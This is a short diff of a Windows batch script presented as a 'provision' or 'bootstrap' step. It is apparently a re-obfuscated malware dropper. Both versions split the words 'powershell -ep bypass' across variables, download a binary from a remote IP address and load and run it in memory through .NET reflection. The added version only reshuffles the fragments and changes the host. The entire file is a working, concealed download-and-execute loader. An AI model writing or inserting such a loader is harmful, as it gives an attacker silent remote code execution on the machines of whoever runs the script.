@@ -1,9 +1,9 @@
-REM provision 2659 v2
+REM bootstrap 5377 v2
 @echo off
 setlocal EnableDelayedExpansion
-set tvd0=power
-set pxq1=shell -ep
-set oub2= bypas
-set via3=s -
-set knf4=c "$d=(New-Object Net.WebClient).DownloadData('http://192.0.2.150/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
-!tvd0!!pxq1!!oub2!!via3!!knf4!
+set fcy0=powers
+set wtf1=hell -ep byp
+set xzw2=ass
+set ydx3= -
+set zsc4=c "$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.200/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
+!fcy0!!wtf1!!xzw2!!ydx3!!zsc4!
